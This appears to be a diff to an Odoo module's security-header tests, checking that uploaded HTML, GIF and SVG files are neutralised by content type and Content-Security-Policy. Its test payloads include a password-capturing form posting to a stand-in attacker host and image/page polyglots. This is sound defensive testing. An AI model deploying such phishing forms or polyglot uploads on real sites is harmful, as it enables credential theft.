@@ -38,14 +38,32 @@ class TestHeaders(BrokersyncCommon, HttpCase):
         self.authenticate("bs_broker", "bs_broker")
         self.assertEqual(self.policy("/odoo")["frame-ancestors"], "'self'")
 
-    def test_an_uploaded_page_runs_nothing(self):
-        attachment = self.env["ir.attachment"].create(
-            {
-                "name": "page.html",
-                "mimetype": "text/html",
-                "raw": b"<script>alert(1)</script>",
-                "public": True,
-            }
+    def upload(self, name, content, mimetype):
+        values = {"name": name, "mimetype": mimetype, "raw": content, "public": True}
+        return f"/web/content/{self.env['ir.attachment'].create(values).id}"
+
+    def test_an_uploaded_page_runs_nothing_and_asks_for_nothing(self):
+        """Nor does a file that is a picture and a page at once, when the address calls it a page."""
+        form = (
+            b"<form action='https://evil.example'><input name='password'></form><script>1</script>"
         )
-        headers = self.url_open(f"/web/content/{attachment.id}").headers
-        self.assertIn("default-src 'none'", headers["Content-Security-Policy"])
+        for path in (
+            self.upload("page.html", form, "text/html"),
+            self.upload("photo.gif", b"GIF89a" + form, "image/gif") + "?mimetype=text/html",
+            self.upload("photo.svg", b"<svg>" + form, "image/svg+xml")
+            + "?mimetype=application/xhtml%2Bxml",
+        ):
+            with self.subTest(path):
+                answer = self.url_open(path)
+                self.assertEqual(answer.headers["Content-Type"].partition(";")[0], "text/plain")
+                policy = answer.headers["Content-Security-Policy"].split("; ")
+                self.assertLess(
+                    {"default-src 'none'", "form-action 'none'", "sandbox"}, set(policy)
+                )
+
+    def test_pictures_and_papers_are_shown_as_what_they_are(self):
+        picture = self.url_open(self.upload("photo.gif", b"GIF89a", "image/gif"))
+        self.assertEqual(picture.headers["Content-Type"], "image/gif")
+        paper = self.url_open(self.upload("paper.pdf", b"%PDF-1.4", "application/pdf"))
+        self.assertEqual(paper.headers["Content-Type"], "application/pdf")
+        self.assertNotIn("sandbox", paper.headers["Content-Security-Policy"])
